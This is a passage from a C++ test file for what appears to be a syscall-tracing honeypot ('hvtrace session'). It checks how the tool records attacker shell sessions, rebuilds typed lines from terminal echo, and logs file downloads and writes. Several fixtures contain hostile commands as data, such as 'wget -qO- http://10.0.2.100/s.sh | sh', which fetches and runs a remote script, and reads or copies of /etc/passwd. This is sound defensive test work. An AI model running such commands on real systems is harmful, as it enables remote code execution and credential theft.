    g.type(kConn, kMaster, argv[1] + "\r", argv[1] + "\r\n");
    g.pipe(kShell, 3, 4);
    g.fork(kShell, pid);
    g.fork(kShell, pid + 1);
    g.call(pid, "dup2", {4, 1}, 1);
    g.close(pid, 3);
    g.close(pid, 4);
    g.exec(pid, "/usr/bin/curl", argv);
    g.call(pid + 1, "dup2", {3, 0}, 0);
    g.close(pid + 1, 3);
    g.close(pid + 1, 4);
    g.exec(pid + 1, std::string("/bin/") + reader, {reader});
    g.close(kShell, 3);
    g.close(kShell, 4);
    g.write(pid, 1, "echo curled\n");
    g.exit(pid, 0);
    g.exit(pid + 1, 0);
    g.read(kConn, kMaster, prompt);
  }
  // cp with sendfile (the bytes never leave the kernel), a writev with its data gathered, a
  // pwritev whose iovecs are not copied.
  g.type(kConn, kMaster, "cp /etc/passwd /tmp/pw\r", "cp /etc/passwd /tmp/pw\r\n");
  g.fork(kShell, 303);
  g.exec(303, "/bin/cp", {"cp", "/etc/passwd", "/tmp/pw"});
  g.open(303, "/etc/passwd", 0, 3);
  g.open(303, "/tmp/pw", kCreateFlags, 4);
  g.call(303, "sendfile", {4, 3, 0, 0x1000000}, 1234);
  g.close(303, 4);
  g.exit(303, 0);
  g.read(kConn, kMaster, prompt);
  g.type(kConn, kMaster, "logger\r", "logger\r\n");
  g.fork(kShell, 304);
  g.exec(304, "/bin/logger", {"logger"});
  g.open(304, "/tmp/log", kCreateFlags, 5);
  g.call(304, "writev", {5, 0x1000, 2}, 11, {cap(1, CaptureKind::kBuffer, "hello world")});
  g.call(304, "pwritev", {5, 0x1000, 2, 11}, 5);
  g.close(304, 5);
  g.open(304, "/tmp/v", kCreateFlags, 6);
  g.call(304, "writev", {6, 0x1000, 2}, 6, {cap(1, CaptureKind::kBuffer, "hello\n")});
  g.close(304, 6);
  g.exit(304, 0);
  g.read(kConn, kMaster, prompt);
  // On one vCPU the shell reads the Enter and forks before the server's write of it returns: the
  // fork is seen first and still belongs to the line that Enter completes (logger keeps its exit 0).
  const std::uint64_t enter_at = g.now;
  g.now += 1'000'000;
  g.fork(kShell, 330);
  g.exec(330, "/bin/false", {"false"});
  g.exit(330, 1);
  g.next_entry_ns = enter_at;
  g.write(kConn, kMaster, "false\r");
  g.read(kConn, kMaster, "false\r\n" + prompt);
  g.type(kConn, kMaster, "exit\r", "exit\r\n");
  g.exit(kShell, 0);
  g.exit(kConn, 0);

  const fs::path sdir = dir.path() / t.session_ids().at(0);
  const auto ev = jsonl(sdir / "events.jsonl");
  std::vector<std::string> inputs;
  for (const auto& e : by_id(ev, "cowrie.command.input")) inputs.push_back(e["input"]);
  EXPECT_EQ(inputs, (std::vector<std::string>{"cat /etc/passwd", "wget -qO- http://10.0.2.100/s.sh | sh", "-s",
                                              "--version", "cp /etc/passwd /tmp/pw", "logger", "false", "exit"}));
  const std::string tr = slurp(sdir / "transcript.txt");
  // cat was forked before its line was known: its status is still the command's
  EXPECT_NE(tr.find("$ cat /etc/passwd\nroot:x:0:0:root:/root:/bin/bash\n[exit 0]\n"), std::string::npos) << tr;
  EXPECT_NE(tr.find("6be03)\n[exit 0]\n"), std::string::npos) << tr;   // logger's, not false's fork
  EXPECT_NE(tr.find(" $ false\n[exit 1]\n"), std::string::npos) << tr;

  const auto dl = by_id(ev, "cowrie.session.file_download");
  ASSERT_EQ(dl.size(), 2u);
  EXPECT_EQ(dl[1]["url"], "http://10.0.2.100/c.sh");
  EXPECT_EQ(dl[1]["reader"], "bash");
  EXPECT_EQ(dl[1]["pipe"], true);
  EXPECT_EQ(dl[1]["size"], 12);
  EXPECT_EQ(dl[0]["url"], "http://10.0.2.100/s.sh");
  EXPECT_EQ(dl[0]["shasum"], "827ef51200edf6a75f6226ebc4e3ed5fe07cbfe9529bb9da30b436c7aacb4906");
  EXPECT_EQ(dl[0]["size"], script.size());
  EXPECT_EQ(dl[0]["pipe"], true);
  EXPECT_EQ(dl[0]["destfile"], "-");
  EXPECT_EQ(dl[0]["reader"], "sh");
  EXPECT_EQ(dl[0]["reader_pid"], 302);
  EXPECT_EQ(dl[0]["pid"], 301);
  ASSERT_TRUE(dl[0].contains("outfile"));
  EXPECT_EQ(slurp(dl[0]["outfile"].get<std::string>()), script);
  EXPECT_NE(tr.find("downloaded http://10.0.2.100/s.sh to a pipe read by sh (pid 302)"), std::string::npos) << tr;

  std::map<std::string, json> writes;
  for (const auto& e : by_id(ev, "hvtrace.file.write")) writes[e["path"]] = e;
  ASSERT_EQ(writes.size(), 3u);
  const json& pw = writes["/tmp/pw"];
  EXPECT_EQ(pw["size"], 1234);
  EXPECT_FALSE(pw.contains("shasum")) << pw.dump();   // no hash rather than the empty file's
  EXPECT_EQ(pw["content_captured"], false);
  EXPECT_EQ(pw["bytes_not_captured"], 1234);
  EXPECT_EQ(pw["complete"], false);
  const json& lg = writes["/tmp/log"];
  EXPECT_EQ(lg["size"], 16);
  EXPECT_FALSE(lg.contains("shasum"));
  EXPECT_EQ(lg["bytes_not_captured"], 5);
  const json& v = writes["/tmp/v"];
  EXPECT_EQ(v["shasum"], "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03");   // "hello\n"
  EXPECT_EQ(v["complete"], true);
  EXPECT_NE(tr.find("wrote /tmp/pw (1234 bytes, content not captured"), std::string::npos) << tr;
}

TEST(SessionText, TranscriptLinesKeepTextAndSummarizeBinary) {
  EXPECT_EQ(transcript_line("total 4\t-rw-r--r-- f.txt"), "total 4\t-rw-r--r-- f.txt");
  EXPECT_EQ(transcript_line("\x1b[01;34mbin\x1b[0m"), "\x1b[01;34mbin\x1b[0m");   // colours stay for a terminal
  EXPECT_EQ(transcript_line("a bell\x07 in text"), "a bell\\x07 in text");
  EXPECT_EQ(transcript_line("caf\xc3\xa9"), "caf\xc3\xa9");
  // SFTP's version reply and extension list, as dropbear relays it to a session without a pty.
  static constexpr char kSftp[] =
      "\x00\x00\x01\x45\x02\x00\x00\x00\x03\x00\x00\x00\x18posix-rename@openssh.com\x00\x00\x00\x01"
      "1\x00\x00\x00\x13statvfs@openssh.com\x00\x00\x00\x01"
      "2\xff\xfe";
  const std::string sftp(kSftp, sizeof kSftp - 1);
  EXPECT_EQ(transcript_line(sftp), fmt::format("[{} bytes of binary output]", sftp.size()));
  // The same bytes as the transcript gets them: through the screen model, which shows nothing for
  // the control bytes (they must still count), then a line of text and a coloured one.
  ScreenLines screen(4096);
  std::vector<std::string> lines;
  screen.feed(sftp + "\n" + "hello\x07 world\n" + "\x1b[01;34mbin\x1b[0m  \x1b[01;34mboot\x1b[0m\n",
              [&](const std::string& l) { lines.push_back(transcript_line(l)); });
  ASSERT_EQ(lines.size(), 3u);
  EXPECT_EQ(lines[0], fmt::format("[{} bytes of binary output]", sftp.size()));
  EXPECT_EQ(lines[1], "hello world");
  EXPECT_EQ(lines[2], "bin  boot");
}

TEST(SessionText, LineEditorAppliesEditingKeys) {
  std::vector<std::string> lines, dropped;
  LineEditor ed(100);
  auto feed = [&](std::string_view s) {
    ed.feed(s, [&](LineEditor::Line l) { (l.abandoned ? dropped : lines).push_back(l.text); });
  };
  feed("lss\x7f -l\r\n");                 // backspace; \r\n is one Enter
  feed("rm -rf /tmp/x\x17y\r");            // Ctrl-W erases back to the blank, as bash does
  feed("garbage\x15uname -a\r");           // Ctrl-U kills the line
  feed("ech\x1b[D\x1b[Do\x1b[C\x1b[C\r");  // arrows move the cursor: "eoch"
  feed("\x1b[A\r");                        // Up recalls the last line
  feed("abc\x03" "pwd\n");                 // Ctrl-C abandons a line
  feed("caf\xC3\xA9\x7f" "e\r");           // backspace erases a whole UTF-8 character
  EXPECT_EQ(lines, (std::vector<std::string>{"ls -l", "rm -rf y", "uname -a", "eoch", "eoch", "pwd", "cafe"}));
  EXPECT_EQ(dropped, (std::vector<std::string>{"abc"})) << "passed on as abandoned, not entered";
  feed("\x1b[A\x1b[A\r");   // and not in the history: two Ups reach "pwd", not "abc"
  EXPECT_EQ(lines.back(), "pwd");
}

// The editor with the terminal's echo, as bash (readline) draws it: what the keys alone cannot
// tell (TAB, history from before the session, Ctrl-R) is read from the row after the prompt.
struct EchoRig {
  LineEditor ed{4096};
  std::vector<LineEditor::Line> lines;
  std::uint64_t clock = 0;
  void key(std::string_view k) { ed.feed(k, [&](LineEditor::Line l) { lines.push_back(std::move(l)); }, ++clock); }
  void out(std::string_view o) { ed.output(o, [&](LineEditor::Line l) { lines.push_back(std::move(l)); }); }
  // One key, then its echo in its own read (the usual order on the wire).
  void typed(std::string_view k, std::string_view echo) {
    key(k);
    out(echo);
  }
  std::vector<std::string> texts() const {
    std::vector<std::string> v;
    for (const auto& l : lines) v.push_back(l.text);
    return v;
  }
};
constexpr std::string_view kBashPrompt = "\x1b[?2004hroot@hvtrace-guest:~# ";
constexpr std::string_view kBashEnterEcho = "\r\n\x1b[?2004l\r";

TEST(SessionText, EchoLineModelsTheRowAfterThePrompt) {
  EchoLine e(4096);
  e.set_width(40);
  e.feed("\x1b]0;title\x07\x1b[01;32mroot@box\x1b[00m:~# ");
  ASSERT_TRUE(e.mark_prompt());
  e.feed("lss\b \b -l");   // a backspace as readline echoes it
  EXPECT_EQ(e.line(100)->text, "ls -l");
  e.feed("\b\b\b\x1b[K");   // cursor back over " -l", erase to the end
  EXPECT_EQ(e.line(100)->text, "ls");
  e.feed("\x1b[2D\x1b[1@x");   // insert a blank at the start, then write into it
  EXPECT_EQ(e.line(100)->text, "xls");
  e.feed("\x1b[1P");         // delete under the cursor
  EXPECT_EQ(e.line(100)->text, "xs");
  // A line longer than the window wraps on the terminal; it stays one row here, and a redraw
  // from the start of its first visual row (up, \r) rewrites it in place.
  e.feed("\r\x1b[K");
  EXPECT_FALSE(e.line(100).has_value());   // the prompt is gone from the row: nothing to say
  const std::string longline(50, 'w');
  e.feed("root@box:~# " + longline);
  EXPECT_EQ(e.line(100)->text, longline);
  e.feed("\x1b[A\rroot@box:~# " + std::string(50, 'v'));
  EXPECT_EQ(e.line(100)->text, std::string(50, 'v'));
  // A newline that ends the row: the next row starts empty.
  int ended = 0;
  e.feed("\r\n", [&] { ++ended; });
  EXPECT_EQ(ended, 1);
  EXPECT_EQ(e.row(), "");
  // UTF-8 characters are one cell each, even split across reads.
  e.feed("root@box:~# caf\xC3");
  e.feed("\xA9\b\b");
  ASSERT_TRUE(e.line(100).has_value());
  EXPECT_EQ(e.line(100)->text, "caf\xC3\xA9");
  EXPECT_EQ(e.line(100)->cursor, 2u);
}

TEST(SessionText, TabCompletionIsTakenFromTheEcho) {
  EchoRig r;
  r.out("Linux hvtrace-guest\r\n");
  r.out(kBashPrompt);
  for (const char c : std::string_view("cat /etc/pas")) r.typed(std::string(1, c), std::string(1, c));
  r.typed("\t", "swd ");   // one match: the rest of the name and a blank
  r.key("\r");
  EXPECT_TRUE(r.lines.empty()) << "the line must wait for its echo's newline";
  r.out(kBashEnterEcho);
  ASSERT_EQ(r.texts(), (std::vector<std::string>{"cat /etc/passwd"}));
  EXPECT_TRUE(r.lines[0].from_echo);
  EXPECT_EQ(r.lines[0].at, r.clock);   // timed by the Enter key, not by the echo
  r.out("root:x:0:0:root:/root:/bin/bash\r\n");
  r.out(kBashPrompt);

  // Fast typing: the keys, TAB and Enter in one write, the echo after, split anyhow.
  r.key("ls -l /usr/inc\t\r");
  r.out("ls -l /usr/inc");
  r.out("lude/");
  r.out("\r");
  EXPECT_EQ(r.lines.size(), 1u);
  r.out("\n\x1b[?2004l\rtotal 0\r\n");
  EXPECT_EQ(r.texts().back(), "ls -l /usr/include/");
  r.out(kBashPrompt);

  // Keys typed after the TAB but before its echo: the echo has them all in the end.
  r.key("echo /et\t");
  r.key("hosts");
  r.out("echo /etc/");
  r.out("hosts");
  r.key("\r");
  r.out(kBashEnterEcho);
  EXPECT_EQ(r.texts().back(), "echo /etc/hosts");
}

// Non-ASCII keys: a shell in a UTF-8 locale echoes them as typed; one without (the lab guest's
// static bash) takes their bytes for Meta keys and rings the bell. The line is what the echo
// shows, which is what the shell runs.
TEST(SessionText, NonAsciiKeysAreReadFromTheEcho) {
  EchoRig r;
  r.out(kBashPrompt);
  for (const char c : std::string_view("echo caf")) r.typed(std::string(1, c), std::string(1, c));
  r.typed("\xC3\xA9", "\x07");   // no UTF-8 locale: nothing inserted, a bell
  r.key("\r");
  r.out(kBashEnterEcho);
  ASSERT_EQ(r.texts(), (std::vector<std::string>{"echo caf"}));
  EXPECT_TRUE(r.lines[0].from_echo);
  r.out(kBashPrompt);
  for (const char c : std::string_view("echo caf")) r.typed(std::string(1, c), std::string(1, c));
  r.typed("\xC3\xA9", "\xC3\xA9");   // a UTF-8 locale: the character as typed
  r.key("\r");
  r.out(kBashEnterEcho);
  EXPECT_EQ(r.texts().back(), "echo caf\xC3\xA9");
}

TEST(SessionText, DoubleTabListsThenTheLineContinues) {
  EchoRig r;
  r.out(kBashPrompt);
  r.typed("ls /etc/pas", "ls /etc/pas");
  r.typed("\t", "swd");   // two matches (passwd, passwd-): the common part, no blank
  r.typed("\t", "\r\npasswd   passwd-  \r\n");   // the second TAB lists them ...
  r.out("\x1b[?2004hroot@hvtrace-guest:~# ls /etc/passwd");   // ... and redraws prompt and line
  EXPECT_EQ(r.ed.current(), "ls /etc/passwd");
  r.typed("-", "-");
  r.typed("\t", " ");
  r.typed("\r", kBashEnterEcho);
  EXPECT_EQ(r.texts(), (std::vector<std::string>{"ls /etc/passwd-"}));

  // The bell: nothing to complete, the line stays as typed.
  r.out(kBashPrompt);
  r.typed("cat /nonexist", "cat /nonexist");
  r.typed("\t", "\a");
  r.typed("\t", "\a");
  r.typed("\r", kBashEnterEcho);
  EXPECT_EQ(r.texts().back(), "cat /nonexist");
}

TEST(SessionText, HistoryFromBeforeTheSessionAndSearchComeFromTheEcho) {
  EchoRig r;
  r.out(kBashPrompt);
  // Up with an empty session history: bash recalls ~/.bash_history's last line.
  r.typed("\x1b[A", "wget -qO- http://10.0.2.100/s.sh | sh");
  r.typed("\r", kBashEnterEcho);
  EXPECT_EQ(r.texts(), (std::vector<std::string>{"wget -qO- http://10.0.2.100/s.sh | sh"}));
  // Up twice over a half-typed line, edited after: readline moves back and rewrites.
  r.out(kBashPrompt);
  r.typed("xyz", "xyz");
  r.typed("\x1b[A", "\b\b\bwget -qO- http://10.0.2.100/s.sh | sh");
  r.typed("\x1b[A", "\r\x1b[Kroot@hvtrace-guest:~# uname -a");
  r.typed("\x7f", "\b \b");
  r.typed("r", "r");
  r.typed("\r", kBashEnterEcho);
  EXPECT_EQ(r.texts().back(), "uname -r");
  // Ctrl-R: the search prompt replaces the prompt; accepting restores it with the match.
  r.out(kBashPrompt);
  r.typed("\x12", "\r\x1b[K(reverse-i-search)`': ");
  r.typed("w", "\r\x1b[K(reverse-i-search)`w': wget -qO- http://10.0.2.100/s.sh | sh");
  r.typed("g", "\r\x1b[K(reverse-i-search)`wg': wget -qO- http://10.0.2.100/s.sh | sh");
  r.key("\r");
  r.out("\r\x1b[Kroot@hvtrace-guest:~# wget -qO- http://10.0.2.100/s.sh | sh");
  r.out(kBashEnterEcho);
  EXPECT_EQ(r.texts().back(), "wget -qO- http://10.0.2.100/s.sh | sh");
  // No echo at all (the keys go to a program that does not echo): the keys stand, a tab as a tab.
  LineEditor quiet(100);
  std::vector<std::string> got;
  quiet.feed("ls /et\t\r", [&](LineEditor::Line l) { got.push_back(l.text); });
  EXPECT_EQ(got, (std::vector<std::string>{"ls /et\t"}));
  // An Enter whose echo never ends is entered when the session ends (flush), as the row stands.
  EchoRig f;
  f.out(kBashPrompt);
  f.typed("ls /tm\t", "ls /tmp/");
  f.key("\r");
  f.ed.flush([&](LineEditor::Line l) { f.lines.push_back(std::move(l)); });
  EXPECT_EQ(f.texts(), (std::vector<std::string>{"ls /tmp/"}));
}

TEST(SessionText, EchoModelStaysBoundedOnHostileOutput) {
  EchoRig r;
  r.out(kBashPrompt);
  r.typed("x\t", "x");
  // A megabyte of text with no newline, escape floods, huge counts, a runaway sequence.
  const std::string mb(1 << 20, 'A');
  r.out(mb);
  EXPECT_LE(r.ed.echo().row().size(), LineEditor::kMaxEchoCells);
  std::string flood;
  for (int i = 0; i < 20000; ++i) flood += "\x1b[99999@\x1b[99999P\x1b[99999C\x1b[99999D\x1b[99999A\x1b[99999B";
  r.out(flood);
  r.out("\x1b[" + std::string(100000, '9'));
  r.out("\x1b]" + std::string(100000, 'x'));
  r.out(std::string(100000, '\xC3'));
  EXPECT_LE(r.ed.echo().row().size(), 4 * LineEditor::kMaxEchoCells);
  r.out("\r\n");
  r.out(kBashPrompt);
  r.typed("ok", "ok");
  r.typed("\t", " ");
  r.typed("\r", kBashEnterEcho);
  ASSERT_FALSE(r.lines.empty());
  EXPECT_EQ(r.texts().back(), "ok");
  EXPECT_LE(r.ed.current().size(), 4096u);
}

TEST(SessionText, Utf8StreamKeepsSplitCharactersAndReplacesInvalidBytes) {
  Utf8Stream u;
  EXPECT_EQ(u.feed("a\xE2\x82"), "a");
  EXPECT_EQ(u.feed("\xAC" "b"), "\xE2\x82\xAC" "b");
  EXPECT_EQ(u.feed("\xFF" "c"), "\xEF\xBF\xBD" "c");
  EXPECT_EQ(u.feed("\xF0\x9F"), "");
  EXPECT_EQ(u.flush(), "\xEF\xBF\xBD\xEF\xBF\xBD");
  EXPECT_EQ(sanitize_utf8("\xC0\xAF"), "\xEF\xBF\xBD\xEF\xBF\xBD");   // overlong
  EXPECT_EQ(iso_time(1'780'000'000'123'456'789), "2026-05-28T20:26:40.123456Z");
}


// What `hvtrace session` asks the monitor for: the calls the engine reads, in both numberings,
// and nothing of the calls a compile makes most that it ignores.
TEST(SessionSyscallSet, HoldsWhatTheEngineReadsAndNotWhatItIgnores) {
  const syscalls::TraceSet set = syscall_set();
  const auto has = [&](abi::SyscallAbi a, std::string_view name) {
    const auto nr = syscalls::Table::get(a).by_name(name);
    return nr && set.contains(a, *nr);
  };
  constexpr auto x64 = abi::SyscallAbi::kX86_64;
  constexpr auto i386 = abi::SyscallAbi::kI386;
  for (const char* n : {"read", "pread64", "write", "pwrite64", "open", "openat", "creat", "close", "dup", "dup2", "dup3", "fcntl",
                        "pipe", "pipe2", "socket", "connect", "bind", "accept", "accept4", "getpeername", "getsockname", "fork",
                        "vfork", "clone", "clone3", "execve", "execveat", "exit", "exit_group", "setuid", "setresuid", "setreuid",
                        "ioctl", "wait4", "chdir", "writev", "sendfile"})
    EXPECT_TRUE(has(x64, n)) << n;
  for (const char* n : {"read", "write", "open", "close", "fcntl64", "setuid32", "setresuid32", "waitpid", "wait4", "execve", "fork",
                        "vfork", "clone", "exit_group", "ioctl", "pipe"})
    EXPECT_TRUE(has(i386, n)) << "i386 " << n;
  for (const char* n : {"mmap", "munmap", "brk", "newfstatat", "fstat", "lseek", "getdents64", "mkdir", "umask", "rt_sigaction",
                        "pselect6", "mprotect", "access"})
    EXPECT_FALSE(has(x64, n)) << n;
  for (const char* n : {"mmap2", "brk", "fstat64", "_llseek"}) EXPECT_FALSE(has(i386, n)) << "i386 " << n;
  EXPECT_LT(set.nrs[0].count(), 50u);
}

}  // namespace
}  // namespace hvtrace::session

// The rules hvtrace session gives the monitor for the programs a session runs: each is for a call
// the engine reads; no reads; an open passes when it can write a file or names a directory a
// later openat may start from, in both tables.
TEST(ArgRules, ProgramsDeliverOnlyOpensThatWriteOrNameADirectory) {
  const auto rules = hvtrace::session::arg_rules();
  const auto set = hvtrace::session::syscall_set();
  ASSERT_FALSE(rules.empty());
  const auto rule_for = [&](hvtrace::abi::SyscallAbi a, std::string_view name) -> const hvtrace::abi::ArgRule* {
    const auto nr = hvtrace::syscalls::Table::get(a).by_name(name);
    if (!nr) return nullptr;
    for (const auto& r : rules)
      if (r.nr == *nr && r.abi == (a == hvtrace::abi::SyscallAbi::kI386 ? 1 : 0)) return &r;
    return nullptr;
  };
  for (const auto& r : rules) EXPECT_TRUE(set.nrs[r.abi].test(r.nr)) << r.abi << "/" << r.nr;
  for (const auto a : {hvtrace::abi::SyscallAbi::kX86_64, hvtrace::abi::SyscallAbi::kI386}) {
    const auto* read = rule_for(a, "read");
    ASSERT_NE(read, nullptr);
    EXPECT_EQ(read->mask, 0u);
    const auto* openat = rule_for(a, "openat");
    ASSERT_NE(openat, nullptr);
    EXPECT_EQ(openat->arg, 2);
    const auto passes = [&](std::uint64_t flags) { return (flags & openat->mask) != 0; };
    EXPECT_FALSE(passes(0));                  // O_RDONLY
    EXPECT_FALSE(passes(02000000 | 0100000)); // O_RDONLY | O_CLOEXEC | O_LARGEFILE
    EXPECT_TRUE(passes(01));                  // O_WRONLY
    EXPECT_TRUE(passes(02));                  // O_RDWR
    EXPECT_TRUE(passes(0100));                // O_CREAT with O_RDONLY still makes a file
    EXPECT_TRUE(passes(0200000 | 04000));     // O_DIRECTORY | O_NONBLOCK: opendir
    EXPECT_TRUE(passes(010000000));           // O_PATH: a dirfd too
    EXPECT_EQ(rule_for(a, "open")->arg, 1);
    EXPECT_EQ(rule_for(a, "close"), nullptr);   // fds are closed whoever opened them
    EXPECT_EQ(rule_for(a, "write"), nullptr);
  }
}
